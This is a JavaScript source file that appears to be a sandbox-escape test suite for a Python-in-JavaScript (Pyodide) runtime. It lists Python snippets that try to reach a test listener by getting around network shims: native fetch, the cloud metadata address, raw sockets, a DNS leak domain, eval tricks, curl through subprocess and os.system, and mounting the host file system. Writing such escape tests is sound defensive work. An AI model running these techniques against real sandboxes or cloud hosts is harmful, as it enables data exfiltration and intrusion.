// Goal: send anything to anywhere. Each attack is a Python program that tries one way; its value is only for people to read.
// A listener at `{target}` (host `{host}`, port `{port}`) shows whether anything arrived.

/** @typedef {{ name: string, code: string, must?: RegExp, never?: RegExp }} Attack */

/** The beginning of each program: gets JavaScript's native functions from below our shims. */
const PRELUDE = `
import js
def below(name):
    # The platform's own, under the shims: on the prototype, or once the shim is gone.
    found = js.Reflect.get(js.Object.getPrototypeOf(js.globalThis), name)
    if found is None:
        js.Reflect.deleteProperty(js.globalThis, name)
        found = js.Reflect.get(js.globalThis, name)
    return found
def new(name, *args):
    return js.Reflect.construct(js.Reflect.get(js.globalThis, name), js.Array.of(*args))
def options(**kwargs):
    found = js.Object.new()
    for name, value in kwargs.items():
        js.Reflect.set(found, name, value)
    return found
def fetch(*args):
    return js.Reflect.apply(below("fetch"), js.globalThis, js.Array.of(*args))
async def text(response):
    return (await (await response).text())
target, host, port = "{target}", "{host}", {port}
`;

/** @type {[string, string][]} */
const WAYS = [
  ['fetch, as it is', 'await text(js.fetch(target))'],
  ['fetch, below the shim', 'await text(fetch(target))'],
  ['fetch of a Request', 'await text(fetch(new("Request", target, options(method="POST", body="x"))))'],
  [
    'fetch that asks for a WebSocket',
    'str((await fetch(target, options(headers=options(Upgrade="websocket")))).webSocket)',
  ],
  ['fetch by name', 'await text(fetch("http://localhost:{port}/"))'],
  ['fetch over IPv6', 'await text(fetch("http://[::1]:{port}/"))'],
  ['fetch of any address', 'await text(fetch("http://0.0.0.0:{port}/"))'],
  ['fetch of the metadata service', 'await text(fetch("http://169.254.169.254/latest/meta-data/"))'],
  ['fetch of the internet', 'await text(fetch("https://example.com/"))'],
  ['fetch of the own server', 'await text(fetch("{own}"))'],
  ['fetch of a session object', 'await text(fetch("http://session/open"))'],
  ['fetch of the assets', 'await text(fetch("http://assets/"))'],
  [
    'WebSocket',
    'ws = new("WebSocket", target.replace("http", "ws"))\nimport asyncio\nawait asyncio.sleep(0.3)\nws.send("x")\nstr(ws.readyState)',
  ],
  ['FontFace', 'await new("FontFace", "x", f"url({target})").load()'],
  ['EventSource', 'es = new("EventSource", target)\nimport asyncio\nawait asyncio.sleep(0.3)\nstr(es.readyState)'],
  ['XMLHttpRequest', 'x = new("XMLHttpRequest")\nx.open("GET", target, False)\nx.send()\nx.responseText'],
  ['sendBeacon', 'str(js.navigator.sendBeacon(target, "x"))'],
  ['a worker', 'str(new("Worker", target))'],
  ['WebTransport', 'str(new("WebTransport", target))'],
  ['a peer connection', 'str(new("RTCPeerConnection"))'],
  ['importScripts', 'str(js.importScripts(target))'],
  ['the cache, which fetches', 'await js.caches.default.add(target)\n"added"'],
  ['sockets of Node', 'str(js.process.getBuiltinModule("node:net").connect(port, host))'],
  ['sockets of Cloudflare', 'str(js.process.getBuiltinModule("cloudflare:sockets").connect("{host}:{port}"))'],
  ['JavaScript from text', 'str(js.eval("fetch(" + repr(target) + ")"))'],
  ['JavaScript from a constructor', 'str(js.fetch.constructor.constructor("return import(" + repr(target) + ")")())'],
  [
    'JavaScript from a timer',
    'js.setTimeout("fetch(" + repr(target) + ")", 0)\nimport asyncio\nawait asyncio.sleep(0.1)',
  ],
  ['run_js', 'from pyodide.code import run_js\nstr(await run_js("import(" + repr(target) + ")"))'],
  ['pyfetch', 'from pyodide.http import pyfetch\nawait (await pyfetch(target)).string()'],
  ['open_url', 'from pyodide.http import open_url\nopen_url(target).read()'],
  [
    'loadPackage of an address',
    'import pyodide_js\nstr(await pyodide_js.loadPackage(target + "x-1.0-py3-none-any.whl"))',
  ],
  [
    'fetch of pyodide',
    'import pyodide_js\nstr(await pyodide_js._api.packageManager.compat.loadBinaryFile(target)) if hasattr(pyodide_js._api, "packageManager") else "none"',
  ],
  ['urllib', 'import urllib.request\nurllib.request.urlopen(target, timeout=2).read().decode()'],
  [
    'http.client',
    'import http.client\nc = http.client.HTTPConnection(host, port, timeout=2)\nc.request("GET", "/")\nstr(c.getresponse().read())',
  ],
  [
    'a socket',
    'import socket\ns = socket.create_connection((host, port), timeout=2)\ns.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")\nstr(s.recv(100))',
  ],
  [
    'a socket that does not wait',
    'import socket\ns = socket.socket()\ns.setblocking(False)\ns.connect_ex((host, port))\nimport asyncio\nawait asyncio.sleep(0.3)\nstr(s.send(b"x"))',
  ],
  ['a datagram', 'import socket\nstr(socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", (host, port)))'],
  [
    'a name server',
    'import socket\nstr(socket.getaddrinfo("leak.example.com", 80)) and str(socket.create_connection(("leak.example.com", 80), timeout=2))',
  ],
  ['asyncio', 'import asyncio\nstr(await asyncio.wait_for(asyncio.open_connection(host, port), 2))'],
  [
    'C, by ctypes',
    'import ctypes\nlibc = ctypes.CDLL(None)\nstr(libc.emscripten_run_script(b"fetch(" + repr(target).encode() + b")"))',
  ],
  ['Emscripten sockets', 'import pyodide_js\nstr(pyodide_js._module.SOCKFS.websocket_sock_ops.connect)'],
  ['another process', 'import subprocess\nsubprocess.run(["curl", target], capture_output=True).stdout.decode()'],
  ['os.system', 'import os\nstr(os.system("curl " + target))'],
  [
    'a file system of the machine',
    'import pyodide_js\npyodide_js.mountNodeFS("/host", "/")\nimport os\nstr(os.listdir("/host"))',
  ],
];

/** @type {Attack[]} */
export const attacks = WAYS.map(([name, code]) => ({ name, code: PRELUDE + code }));
